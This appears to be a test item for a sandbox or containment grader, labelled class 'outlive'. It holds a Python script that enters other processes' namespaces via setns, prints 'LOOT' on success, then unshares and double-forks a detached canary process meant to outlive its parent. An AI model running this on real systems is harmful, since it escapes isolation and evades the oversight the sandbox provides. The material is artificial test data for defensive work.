"""Adopt one's children, and leave through other namespaces.

class: outlive
expect: graded
"""

EXTRA = [
    """import ctypes
import glob
import os
import sys

libc = ctypes.CDLL(None, use_errno=True)
libc.prctl(36, 1, 0, 0, 0)
libc.prctl(4, 1, 0, 0, 0)
for path in glob.glob("/proc/[0-9]*/ns/*"):
    try:
        fd = os.open(path, os.O_RDONLY)
    except OSError:
        continue
    kind = os.path.basename(path)
    if os.readlink(path) != os.readlink(f"/proc/self/ns/{kind}") and libc.setns(fd, 0) == 0:
        print("LOOT: entered", path)
    os.close(fd)
code = "import time; time.sleep(120)"
if os.fork() == 0:
    libc.unshare(0x10000000 | 0x20000000)
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", code, "attack-canary-subreaper"])
    os._exit(0)"""
]
